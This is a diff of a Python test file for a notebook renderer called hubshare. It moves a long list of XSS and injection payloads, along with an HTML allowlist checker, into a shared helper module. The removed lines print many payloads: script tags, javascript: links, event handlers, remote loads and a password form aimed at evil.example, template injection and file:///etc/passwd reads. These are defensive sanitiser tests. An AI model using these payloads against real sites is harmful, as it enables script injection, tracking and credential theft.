@@ -16,123 +16,8 @@ from hubshare.rendering.kinds import Kind
 from hubshare.rendering.links import resolve_links
 from hubshare.rendering.requests import make_request
 from hubshare.rendering.results import RenderResult
-
-SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
-ENCODED = base64.b64encode(b"<script>alert(1)</script>").decode()
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<script src=//evil.example/x.js></script>",
-    "<ScRiPt\n>alert(1)</sCrIpT\t>",
-    "</pre></div></td></table></div></div><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/track.png'>",
-    "<img src='//evil.example/track.png'>",
-    "<img src='\\\\evil.example\\track.png'>",
-    "<img src='file:///etc/passwd'>",
-    "<img src='../../../../etc/passwd'>",
-    "<img srcset='https://evil.example/a.png 2x' src=a.png>",
-    "<img src=a.png/onerror=alert(1)>",
-    "<img src=\"data:text/html,<script>alert(1)</script>\">",
-    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
-    "<a href='&#1;java&#115;cript&colon;alert(1)'>x</a>",
-    "<a href=' &#x0A;javascript:alert(1)'>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    f"<a href='data:text/html;base64,{ENCODED}'>x</a>",
-    "<a href='blob:https://evil.example/1'>x</a>",
-    "<a href=x ping='https://evil.example/'>x</a>",
-    "<a href=x target=_top onclick=alert(1)>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/track.png)",
-    "![x\"onerror=\"alert(1)](a.png)",
-    "![](attachment:missing.png)",
-    "<javascript:alert(1)>",
-    "<iframe src='https://evil.example/'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
-    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
-    "<button formaction='javascript:alert(1)'>x</button>",
-    "<base href='https://evil.example/'>",
-    "<base><base href='//evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<link rel=stylesheet href='https://evil.example/x.css'>",
-    "<style>body{background:url(https://evil.example/)}</style>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<div style='background:url(https://evil.example/)'>x</div>",
-    "<div style='color:red;background-image:url(javascript:alert(1))'>x</div>",
-    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Sign in again</div>",
-    "<div style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</div>",
-    "<div style='color:\\75rl(https://evil.example)'>x</div>",
-    "<div class='modal position-fixed top-0 vw-100 vh-100'>x</div>",
-    "<table background='https://evil.example/'><tr><td background='https://evil.example/'>x</table>",
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<video poster='https://evil.example/'><source src='https://evil.example/' onerror=alert(1)></video>",
-    "<audio src='https://evil.example/' autoplay onplay=alert(1)></audio>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<svg><style><img src='</style><img src=x onerror=alert(1)>'></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
-    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
-    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>",
-    "<textarea></textarea><script>alert(1)</script></textarea>",
-    "<title></title><script>alert(1)</script>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<p id=csrf><p id=user-x><p name=location><a id=body name=body>x</a><p id=__proto__>",
-    "<p is=x-evil slot=x contenteditable tabindex=1 accesskey=x autofocus onfocus=alert(1)>x</p>",
-    "<input type=image src='https://evil.example/'><isindex action='javascript:alert(1)'>",
-    "<marquee onstart=alert(1)>x</marquee><frameset><frame src='javascript:alert(1)'></frameset>",
-    "{{ 7*7 }}{% include '/etc/passwd' %}{{ ''.__class__.__mro__ }}",
-    "{{ self.__init__.__globals__ }}{# #}{% raw %}",
-    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07\x1b[31m<script>alert(1)</script>\x1b[0m",
-    "\x1b[38;2;1;2;3\"onclick=alert(1)mx",
-    "$<script>alert(1)</script>$ and $$\\href{javascript:alert(1)}{x}</div><script>alert(1)</script>$$",
-    "```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
-    "```python\" onclick=\"alert(1)\nx\n```",
-    "\" onmouseover=\"alert(1)\" x=\"",
-    "' onmouseover='alert(1)' x='",
-    "--><script>alert(1)</script><!--",
-    "]]></script><script>alert(1)</script>",
-    "\x00<script\x00>alert(1)</script>",
-    "\ufeff<script>alert(1)</script>\u202e\u2066",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "=HYPERLINK(\"https://evil.example\")",
-    SVG,
-]  # fmt: skip
-
-
-def notebook_of(*cells: Any, **metadata: Any) -> bytes:
-    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}).encode()
-
-
-def code(*outputs: Any, source: str = "1", **more: Any) -> dict[str, Any]:
-    cell = {"cell_type": "code", "id": "a", "metadata": {}, "execution_count": 1, "source": source}
-    return {**cell, "outputs": list(outputs), **more}
-
-
-def text(source: str, **more: Any) -> dict[str, Any]:
-    return {"cell_type": "markdown", "id": "b", "metadata": {}, "source": source, **more}
-
-
-def shown(**data: Any) -> dict[str, Any]:
-    return {
-        "output_type": "display_data",
-        "metadata": {},
-        "data": {name.replace("__", "/"): data[name] for name in data},
-    }
+from tests.helpers.hostile_content import PAYLOADS, SVG, code, look_through, notebook_of, text
+from tests.helpers.rendering import display
 
 
 def notebooks(evil: str) -> dict[str, bytes]:
@@ -148,26 +33,26 @@ def notebooks(evil: str) -> dict[str, bytes]:
         "sort of cell": notebook_of(text("x") | {"cell_type": evil}),
         "id": notebook_of(text("x") | {"id": evil}, code() | {"id": evil}),
         "count": notebook_of(code() | {"execution_count": evil}),
-        "html": notebook_of(code(shown(text__html=evil))),
-        "html in pieces": notebook_of(code(*(shown(text__html=part) for part in re.split("(?=[<>])", evil)))),
-        "html trusted": notebook_of(code(shown(text__html=evil), metadata={"trusted": True}), signature="x"),
-        "svg": notebook_of(code(shown(**{"image__svg+xml": evil}))),
-        "png": notebook_of(code(shown(image__png=evil))),
-        "png encoded": notebook_of(code(shown(image__png=encoded))),
-        "latex": notebook_of(code(shown(text__latex=evil))),
-        "markdown output": notebook_of(code(shown(text__markdown=evil))),
-        "plain": notebook_of(code(shown(text__plain=evil))),
-        "javascript": notebook_of(code(shown(application__javascript=evil, text__plain=evil))),
-        "json": notebook_of(code(shown(application__json={evil: evil}))),
-        "plotly": notebook_of(code(shown(text__html=evil, **{"application__vnd.plotly.v1+json": {"data": evil}}))),
-        "widget": notebook_of(code(shown(**{"application__vnd.jupyter.widget-view+json": {"model_id": evil}})), widgets={
+        "html": notebook_of(code(display(text__html=evil))),
+        "html in pieces": notebook_of(code(*(display(text__html=part) for part in re.split("(?=[<>])", evil)))),
+        "html trusted": notebook_of(code(display(text__html=evil), metadata={"trusted": True}), signature="x"),
+        "svg": notebook_of(code(display(**{"image__svg+xml": evil}))),
+        "png": notebook_of(code(display(image__png=evil))),
+        "png encoded": notebook_of(code(display(image__png=encoded))),
+        "latex": notebook_of(code(display(text__latex=evil))),
+        "markdown output": notebook_of(code(display(text__markdown=evil))),
+        "plain": notebook_of(code(display(text__plain=evil))),
+        "javascript": notebook_of(code(display(application__javascript=evil, text__plain=evil))),
+        "json": notebook_of(code(display(application__json={evil: evil}))),
+        "plotly": notebook_of(code(display(text__html=evil, **{"application__vnd.plotly.v1+json": {"data": evil}}))),
+        "widget": notebook_of(code(display(**{"application__vnd.jupyter.widget-view+json": {"model_id": evil}})), widgets={
             "application/vnd.jupyter.widget-state+json": {"state": {evil: {"state": {"value": evil}}}}}),
-        "mime": notebook_of(code(shown(**{evil: evil, "text__plain": "x"}))),
+        "mime": notebook_of(code(display(**{evil: evil, "text__plain": "x"}))),
         "stream": notebook_of(code({"output_type": "stream", "name": evil, "text": evil})),
         "error": notebook_of(code({"output_type": "error", "ename": evil, "evalue": evil, "traceback": [evil]})),
         "error without": notebook_of(code({"output_type": "error", "ename": evil, "evalue": evil, "traceback": []})),
         "output": notebook_of(code({"output_type": evil, "text": evil})),
-        "output metadata": notebook_of(code(shown(image__png="AAAA") | {"metadata": {"image/png": {"width": evil}}})),
+        "output metadata": notebook_of(code(display(image__png="AAAA") | {"metadata": {"image/png": {"width": evil}}})),
         "attachment name": notebook_of(text(f"![x](<attachment:{evil}>)", attachments={evil: {"image/png": "AAAA"}})),
         "attachment": notebook_of(text("![x](attachment:a)", attachments={"a": {"image/png": evil}})),
         "attachment type": notebook_of(text("![x](attachment:a)", attachments={"a": {evil: "AAAA", "text/html": evil}})),
@@ -198,56 +83,12 @@ def others(evil: str) -> dict[str, tuple[Kind, Mapping[str, Any], list[bytes]]]:
         "json": (Kind.JSON, {}, [json.dumps({evil: [evil, {evil: 1}]}).encode()]),
         "text difference": (Kind.TEXT_DIFFERENCE, {"name": "a"}, [raw, raw + b"\nx\n" + raw]),
         "notebook difference": (Kind.NOTEBOOK_DIFFERENCE, {}, [
-            notebook_of(text(evil), code(source="a"), code(shown(text__html=evil), source="b")),
-            notebook_of(text("x" + evil), code(shown(text__html=evil), source="c" + evil), code(source="b")),
+            notebook_of(text(evil), code(source="a"), code(display(text__html=evil), source="b")),
+            notebook_of(text("x" + evil), code(display(text__html=evil), source="c" + evil), code(source="b")),
         ]),
         "binary": (Kind.BINARY, {}, [b"\x00" + raw]),
         "image": (Kind.IMAGE, {}, [b"GIF89a\x01\x00\x01\x00" + raw]),
     }  # fmt: skip
-
-
-ATTRIBUTES = {
-    "alt", "align", "border", "class", "colspan", "dir", "height", "href", "id", "lang", "open", "rel", "rowspan", "scope",
-    "span", "src", "start", "style", "title", "width",
-}  # fmt: skip
-ELEMENTS = {
-    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn", "div",
-    "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark",
-    "ol", "p", "pre", "q", "rp", "rt", "ruby", "s", "samp", "small", "span", "strike", "strong", "sub", "summary", "sup",
-    "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var", "wbr",
-}  # fmt: skip
-
-
-def look_through(html: str) -> None:
-    """Parse a fragment as a browser does, in the middle of a page, and fail for anything that acts, fetches or disguises."""
-    page = html5lib.parse(f'<div id="outer">{html}<p id="after"></p></div>', namespaceHTMLElements=False)
-    outer = page.find(".//*[@id='outer']")
-    assert outer is not None and len(outer) and outer[-1].get("id") == "after", (
-        "it closes or swallows what is around it"
-    )
-    for element in outer.iter():
-        if element is outer or element.get("id") == "after":
-            continue
-        assert isinstance(element.tag, str), f"a comment: {element.text}"
-        assert element.tag in ELEMENTS, element.tag
-        for name, value in element.attrib.items():
-            assert name in ATTRIBUTES, (element.tag, name)
-            if name == "href":
-                assert re.match(r"https?:|mailto:|hubshare:|#", value), value
-            if name == "src":
-                assert re.fullmatch(
-                    r"data:image/(png|jpeg|gif|webp|bmp|svg\+xml);base64,[\w+/=\s]*|hubshare:.*", value
-                ), value
-            if name == "style":
-                assert re.fullmatch(r"[\w\s:;#.,%()-]*", value), value
-                assert not re.search(r"url|expression|position|import|\\", value), value
-            if name == "id":
-                assert re.match(r"user-|cell-\d+$|cell-id-|L\d+$", value), value
-            if name == "class":
-                assert all(
-                    re.fullmatch(r"(hs|ansi)-[a-z0-9-]+|dataframe|[a-z]{1,3}\d?", one) for one in value.split()
-                ), value
-        assert element.tag != "a" or "noopener" in (element.get("rel") or "noopener")
 
 
 @pytest.mark.parametrize(
@@ -287,7 +128,7 @@ def test_other_files_are_harmless_too(evil: str) -> None:
 
 
 def test_everything_at_once_stays_in_its_cell() -> None:
-    cells = [cell for evil in PAYLOADS for cell in (text(evil), code(shown(text__html=evil)))]
+    cells = [cell for evil in PAYLOADS for cell in (text(evil), code(display(text__html=evil)))]
     html = rendered(Kind.NOTEBOOK, [notebook_of(*cells)], {}).html
     look_through(html)
     page = html5lib.parse(html, namespaceHTMLElements=False)
@@ -299,7 +140,7 @@ def test_everything_at_once_stays_in_its_cell() -> None:
 
 
 def test_templates_are_not_filled_in() -> None:
-    html = rendered(Kind.NOTEBOOK, [notebook_of(text("{{ 7*7 }}"), code(shown(text__html="{{ 7*7 }}")))], {}).html
+    html = rendered(Kind.NOTEBOOK, [notebook_of(text("{{ 7*7 }}"), code(display(text__html="{{ 7*7 }}")))], {}).html
     assert html.count("{{ 7*7 }}") == 2 and "49" not in html
 
 
@@ -312,12 +153,12 @@ def test_no_file_of_the_host_is_embedded() -> None:
 
 
 def test_an_svg_image_is_only_ever_inside_an_img() -> None:
-    html = rendered(Kind.NOTEBOOK, [notebook_of(code(shown(**{"image__svg+xml": SVG})))], {}).html
+    html = rendered(Kind.NOTEBOOK, [notebook_of(code(display(**{"image__svg+xml": SVG})))], {}).html
     assert "<svg" not in html and 'src="data:image/svg+xml;base64,' in html
 
 
 def test_the_live_document_has_its_policy_inside_as_well() -> None:
-    data = notebook_of(text("<script>x</script>"), code(shown(text__html="<script>alert(1)</script>")))
+    data = notebook_of(text("<script>x</script>"), code(display(text__html="<script>alert(1)</script>")))
     result = rendered(Kind.LIVE, [data], {})
     assert result.meta["interactive"]
     head = result.html.index('http-equiv="Content-Security-Policy" content="default-src \'none\'')
